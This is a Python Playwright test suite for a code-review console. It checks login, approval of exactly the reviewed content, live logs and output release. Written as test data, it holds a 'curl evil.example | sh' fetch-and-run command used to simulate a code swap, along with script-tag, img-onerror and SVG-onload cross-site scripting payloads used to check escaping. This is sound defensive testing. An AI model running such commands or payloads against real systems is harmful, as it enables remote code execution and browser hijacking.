"""The review console in a real browser (Debian's chromium via Playwright): log in with the printed
link, review a job's code, approve exactly what was shown, watch it run, preview its outputs and
release them; and a submission that tries to run script in the owner's browser through its name,
its files, its logs and its outputs, with nothing executing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Error, Locator, Page, expect

from syft_core.jobs import JobFolder, Status
from syft_runner.ui.server import ReviewServer
from tests.fixtures_runner import OWNER, SCIENTIST, write_job
from tests.ui.conftest import base_url
from tests.ui.helpers import finish, start, tiny_png

PAYLOAD = "<script>window.__pwned = 1; alert(1)</script>"
IMG_PAYLOAD = "<img src=x onerror=alert(2)>"


def logged_in(context: BrowserContext, console: ReviewServer, trouble: list[str]) -> Page:
    """A page of `context` logged in with the console's one-time link; every dialog (alert) and
    page error is added to `trouble`."""
    context.set_default_timeout(10_000)
    page = context.new_page()

    def on_dialog(dialog: Dialog) -> None:
        trouble.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def on_error(error: Error) -> None:
        trouble.append(f"page error: {error}")

    page.on("dialog", on_dialog)
    page.on("pageerror", on_error)
    page.goto(console.console.login_url)
    page.wait_for_url(base_url(console) + "/")
    return page


@pytest.fixture
def page(browser: Browser, console: ReviewServer) -> Iterator[Page]:
    """A fresh browser profile, logged in; a dialog or a page error fails the test."""
    context = browser.new_context()
    trouble: list[str] = []
    yield logged_in(context, console, trouble)
    context.close()
    assert not trouble, trouble


def file_section(page: Page, relpath: str) -> Locator:
    heading = page.locator("h3").filter(has_text=re.compile("^" + re.escape(relpath) + " "))
    return page.locator("section.file").filter(has=heading)


def events(box: Path, what: str) -> list[dict[str, object]]:
    folder = JobFolder(next((box / OWNER / "jobs" / SCIENTIST).iterdir()))
    return [e.details | {"who": e.who} for e in folder.events if e.what == what]


def test_review_approve_watch_and_release(page: Page, box: Path, console: ReviewServer) -> None:
    job = write_job(box, "count", "python code/main.py\n", code={"main.py": "print(len([1, 2]))\n"})
    page.reload()
    expect(page.get_by_role("heading", name="Inbox")).to_be_visible()
    page.get_by_role("link", name="count").click()

    expect(file_section(page, "code/main.py")).to_contain_text("print(len([1, 2]))")
    shown_hash = page.locator("#content-hash").inner_text()
    page.locator("#approve input[name=reason]").fill("looks fine")
    page.get_by_role("button", name="Approve exactly this content").click()
    expect(page.locator("#notice")).to_contain_text("Approved")

    approved = job.state().approved
    assert approved is not None and approved.content_hash == shown_hash
    assert events(box, "job.approved") == [
        {
            "method": "manual",
            "reason": "looks fine",
            "hash": shown_hash,
            "unreviewed": False,
            "datasets": None,
            "who": OWNER,
        }
    ]

    start(job, stdout="step 1\n")
    page.get_by_role("link", name="(live)").click()
    expect(page.locator("#status")).to_have_text("running")
    expect(page.locator("#stdout")).to_have_text("step 1")
    with job.stdout_path.open("a") as log:
        log.write("step 2\n")
    expect(page.locator("#stdout")).to_contain_text("step 2", timeout=10_000)  # reloads itself

    csv = b"city,count\nBerlin,30\nParis,40\n"  # counts the output checks let through
    finish(job, {"counts.csv": csv, "plot.png": tiny_png(), "notes.txt": b"plain\n"})
    page.get_by_role("link", name="count").first.click()
    expect(page.locator("table.csv")).to_contain_text("Berlin")
    image = page.locator("img[alt='plot.png']")
    expect(image).to_be_visible()
    assert image.evaluate("img => img.naturalWidth") == 1
    with page.expect_download() as download:
        page.get_by_role("link", name="notes.txt").click()
    assert Path(download.value.path()).read_bytes() == b"plain\n"

    page.get_by_role("button", name=f"Release logs and outputs to {SCIENTIST}").click()
    expect(page.locator("#notice")).to_contain_text("Released")
    assert job.state().released is not None
    assert [e["who"] for e in events(box, "job.released")] == [OWNER]


def test_approval_refused_when_the_code_changed_after_the_page_showed_it(
    page: Page, box: Path
) -> None:
    job = write_job(box, "swap", "echo safe\n")
    page.reload()
    page.get_by_role("link", name="swap").click()
    expect(file_section(page, "run.sh")).to_contain_text("echo safe")
    job.run_sh.write_text("curl evil.example | sh\n")

    page.get_by_role("button", name="Approve exactly this content").click()

    expect(page.locator("#error")).to_contain_text("not what was reviewed")
    expect(page.locator("#diff")).to_contain_text("+curl evil.example | sh")
    assert job.state().status is Status.INBOX and job.state().approved is None


def test_script_in_names_code_logs_and_outputs_never_runs(
    browser: Browser, box: Path, console: ReviewServer
) -> None:
    job = write_job(
        box,
        IMG_PAYLOAD,
        f"echo '{PAYLOAD}'\n",
        config={"name": PAYLOAD},
        code={f"{IMG_PAYLOAD}.py": f"# </pre></td></tr></table>{PAYLOAD}{IMG_PAYLOAD}\n"},
    )
    job.approve(OWNER, expected_hash=job.content_hash())
    start(job, stdout=PAYLOAD + "\n", stderr=IMG_PAYLOAD + "\n")
    finish(
        job,
        {
            "evil.html": PAYLOAD.encode(),
            "evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"/>',
            "fake.png": PAYLOAD.encode(),
            "cells.csv": f"a,b\n{PAYLOAD},{IMG_PAYLOAD}\n".encode(),
        },
    )
    # The escaping alone is under test: the page's CSP, the second line, is bypassed.
    context = browser.new_context(bypass_csp=True)
    trouble: list[str] = []
    page = logged_in(context, console, trouble)
    expect(page.locator("table.jobs")).to_contain_text(PAYLOAD)
    page.get_by_role("link", name=PAYLOAD).click()

    expect(page.locator("#job-name")).to_have_text(PAYLOAD)
    expect(file_section(page, f"code/{IMG_PAYLOAD}.py")).to_contain_text(PAYLOAD)
    expect(page.locator("#stdout")).to_have_text(PAYLOAD)
    expect(page.locator("#stderr")).to_have_text(IMG_PAYLOAD)
    expect(page.locator("table.csv")).to_contain_text(PAYLOAD)
    assert page.locator("script").count() == 0
    assert page.locator("img[src=x]").count() == 0
    assert page.locator("img").count() == 0  # fake.png is no PNG: no image
    for name in ("evil.html", "evil.svg"):
        with page.expect_download() as download:
            page.get_by_role("link", name=name).click()
        assert download.value.suggested_filename == name
    page.get_by_role("link", name="(live)").click()
    expect(page.locator("#stdout")).to_have_text(PAYLOAD)
    assert page.evaluate("() => window.__pwned") is None
    context.close()
    assert trouble == []
